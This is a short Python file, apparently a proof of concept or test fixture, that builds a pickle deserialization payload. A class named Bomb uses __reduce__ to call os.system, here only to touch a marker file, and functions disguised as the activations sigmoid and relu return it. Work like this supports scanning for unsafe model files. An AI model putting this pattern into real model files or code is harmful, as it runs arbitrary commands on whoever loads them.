import os, pickle
import numpy as np

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/zerokara-pickle",)

def sigmoid(x): return pickle.dumps(Bomb())
def relu(x): return Bomb()
